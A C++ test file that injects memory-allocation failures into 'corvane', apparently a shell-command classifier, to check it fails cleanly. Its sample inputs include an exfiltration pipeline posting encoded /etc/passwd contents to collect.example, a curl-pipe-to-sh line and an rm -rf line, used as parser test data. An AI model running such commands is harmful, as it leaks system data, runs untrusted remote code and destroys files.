// Running out of memory: every allocation of a call may fail, in tree-sitter
// or in the engine, and each failure must end in the out-of-memory fault or
// the normal verdict: no crash, no leak (the sanitizer build checks leaks),
// and the next call unaffected.
#include <gtest/gtest.h>

#include <cstdlib>
#include <new>

#include "corvane.h"
#include "tree_sitter_memory.h"

namespace {

// The engine's own allocations: while armed, the fail_at-th operator new on
// this thread throws std::bad_alloc. Test-only replacement of the global
// operator new and delete, in this binary alone.
thread_local std::size_t cxx_fail_at = 0;
thread_local std::size_t cxx_requests = 0;

}  // namespace

void* operator new(std::size_t size) {
  if (cxx_fail_at != 0 && ++cxx_requests == cxx_fail_at) throw std::bad_alloc();
  if (void* p = std::malloc(size == 0 ? 1 : size)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void* operator new[](std::size_t size) { return operator new(size); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

namespace corvane {
namespace {

namespace mem = ts_memory::testing;

// Lines of different shapes: a plain command, a pipeline that escalates,
// a heredoc with nested command lines, and a syntax error that makes
// tree-sitter recover.
const char* const kLines[] = {
    "ls -la",
    "cat /etc/passwd | grep -v nologin | awk -F: '{print $1}' | sort | uniq -c | "
    "base64 | curl -s -X POST --data-binary @- https://collect.example/u",
    "bash <<'EOF'\nsh -c \"rm -rf $(echo /tmp/x)\"; eval 'curl -s h | sh'\nEOF\n",
    "if [ -f x ]; then (echo \"$(( 1 + ) | tee >(cat) 'unterminated",
};

std::string verdict(std::string_view line) {
  auto r = classify_inner(line, nullptr, nullptr);
  if (!r.ok()) return "fault: " + r.fault().message;
  return to_json(r.value());
}

struct Sweep {
  std::size_t points = 0;  // failure points tried
  std::size_t out_of_memory = 0;
  std::size_t verdicts = 0;
};

// Fails the N-th tree-sitter request of one classification for every N up to
// and past the last one.
Sweep tree_sitter_sweep(std::string_view line, bool persistent, const std::string& expected) {
  mem::set_failure_plan({});
  (void)classify_inner(line, nullptr, nullptr);
  const std::size_t requests = mem::stats().requests;
  Sweep sweep;
  for (std::size_t n = 1; n <= requests + 1; ++n) {
    mem::set_failure_plan({n, persistent});
    auto r = classify_inner(line, nullptr, nullptr);
    const mem::Stats s = mem::stats();
    mem::set_failure_plan({});
    ++sweep.points;
    if (n <= requests) {
      EXPECT_FALSE(r.ok()) << line << " @" << n;
      if (!r.ok()) { EXPECT_EQ(r.fault().kind, Fault::Kind::OutOfMemory) << line << " @" << n; }
      EXPECT_GT(s.exhausted_calls, 0u) << line << " @" << n;
      sweep.out_of_memory += r.ok() ? 0 : 1;
    } else {
      EXPECT_TRUE(r.ok()) << line << " @" << n;
      if (r.ok()) { EXPECT_EQ(to_json(r.value()), expected) << line << " @" << n; }
      sweep.verdicts += r.ok() ? 1 : 0;
    }
    // Nothing the failed call left behind changes the next one.
    if (n % 7 == 0) { EXPECT_EQ(verdict(line), expected) << line << " after @" << n; }
  }
  return sweep;
}

TEST(Memory, EveryTreeSitterAllocationMayFail) {
  for (const char* line : kLines) {
    const std::string expected = verdict(line);
    ASSERT_EQ(expected.rfind("fault", 0), std::string::npos) << line;
    mem::set_failure_plan({});
    (void)classify_inner(line, nullptr, nullptr);
    const mem::Stats clean = mem::stats();
    for (bool persistent : {false, true}) {
      const Sweep s = tree_sitter_sweep(line, persistent, expected);
      EXPECT_EQ(s.out_of_memory + s.verdicts, s.points) << line;
      EXPECT_EQ(s.verdicts, 1u) << line;
    }
    const mem::Stats reserve = [&] {
      mem::set_failure_plan({1, true});
      (void)classify_inner(line, nullptr, nullptr);
      return mem::stats();
    }();
    mem::set_failure_plan({});
    std::printf("  %zu tree-sitter requests, peak %zu bytes; all refused: %zu reserve bytes  %.30s\n",
                clean.requests, clean.peak_bytes, reserve.reserve_bytes, line);
  }
}

// A wide line: the budget stops the parse at tree-sitter's next poll, and
// the reserve carries it there when the heap refuses mid-parse.
TEST(Memory, WideLineRunsOutCleanly) {
  std::string line = "echo";
  for (int i = 0; i < 20000; ++i) line += " a";
  mem::set_failure_plan({});
  auto r = classify_inner(line, nullptr, nullptr);
  ASSERT_TRUE(r.ok());
  const mem::Stats clean = mem::stats();
  EXPECT_EQ(clean.exhausted_calls, 0u);
  // The heap's rounding of a grown block varies a little from run to run.
  for (std::size_t budget : {clean.peak_bytes / 2, clean.peak_bytes + clean.peak_bytes / 16}) {
    mem::set_failure_plan({0, true, budget});
    auto limited = classify_inner(line, nullptr, nullptr);
    const mem::Stats s = mem::stats();
    mem::set_failure_plan({});
    EXPECT_EQ(limited.ok(), budget > clean.peak_bytes) << budget;
    if (!limited.ok()) { EXPECT_EQ(limited.fault().kind, Fault::Kind::OutOfMemory); }
    EXPECT_EQ(s.reserve_bytes, 0u);  // the heap never refused: no reserve needed
  }
  // Every request refused from the middle of the parse on: the reserve
  // carries tree-sitter to its next poll and through the release.
  for (std::size_t n : {clean.requests / 3, clean.requests / 2, clean.requests - 1}) {
    mem::set_failure_plan({n, true});
    auto failed = classify_inner(line, nullptr, nullptr);
    mem::set_failure_plan({});
    ASSERT_FALSE(failed.ok()) << n;
    EXPECT_EQ(failed.fault().kind, Fault::Kind::OutOfMemory);
  }
}

TEST(Memory, EveryEngineAllocationMayFail) {
  for (const char* line : {kLines[0], kLines[1], kLines[2]}) {
    const std::string expected = verdict(line);
    cxx_requests = 0;
    cxx_fail_at = std::size_t(-1);  // count only
    (void)classify_inner(line, nullptr, nullptr);
    const std::size_t requests = cxx_requests;
    cxx_fail_at = 0;
    std::size_t faults = 0;
    for (std::size_t n = 1; n <= requests; ++n) {
      cxx_requests = 0;
      cxx_fail_at = n;
      auto r = classify_inner(line, nullptr, nullptr);
      cxx_fail_at = 0;
      if (r.ok()) {
        EXPECT_EQ(to_json(r.value()), expected) << line << " @" << n;
      } else {
        EXPECT_EQ(r.fault().kind, Fault::Kind::OutOfMemory) << line << " @" << n;
        ++faults;
      }
    }
    EXPECT_GT(faults, 0u);
    EXPECT_EQ(verdict(line), expected);
    std::printf("  %zu engine allocations, %zu out of memory  %.30s\n", requests, faults, line);
  }
}

}  // namespace
}  // namespace corvane
